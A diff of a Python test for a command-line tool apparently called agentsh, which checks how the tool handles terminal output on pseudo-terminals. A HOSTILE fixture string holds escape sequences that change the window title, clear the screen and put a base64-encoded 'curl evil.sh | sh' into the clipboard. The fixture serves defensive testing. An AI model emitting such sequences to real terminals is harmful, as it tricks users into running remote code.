@@ -18,8 +18,9 @@ import subprocess
 import sys
 import time
 
-from fakeserver import Reply
 from reliability_support import MODEL, agentsh_env
+
+from fakeserver import Reply
 
 HOSTILE = (
     "title\x1b]0;PWNED-TITLE\x07 clear\x1b[2J\x1b[H clipboard\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 "
@@ -39,7 +40,7 @@ def banner() -> str:
 
 def run_on_terminals(arguments: list[str], cwd, env: dict) -> tuple[int, bytes, bytes]:
     """Run `agentsh ARGS` with stdout and stderr on two pseudo-terminals; return what each showed."""
-    masters, slaves = zip(*(pty.openpty() for _ in range(2)))
+    masters, slaves = zip(*(pty.openpty() for _ in range(2)), strict=True)
     process = subprocess.Popen([sys.executable, "-m", "agentsh", *arguments], cwd=cwd, env=env,
                                stdin=subprocess.DEVNULL, stdout=slaves[0], stderr=slaves[1])
     for slave in slaves:
